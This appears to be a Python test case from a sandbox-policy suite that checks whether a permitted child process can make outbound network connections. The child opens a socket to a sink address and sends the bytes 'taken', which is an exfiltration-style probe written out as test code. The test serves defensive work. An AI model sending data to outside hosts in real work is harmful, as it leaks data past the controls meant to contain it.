# class: network
# rule: outbound_connectivity
# policy: child-allowed.yaml
# success: an allowed child connects
# proof: sink
from attack import SINK, attempt, child


@attempt
def connect():
    return b"sent" in child(
        "import socket; socket.create_connection(%r, 3).send(b'taken'); print('sent')" % (SINK,)
    )
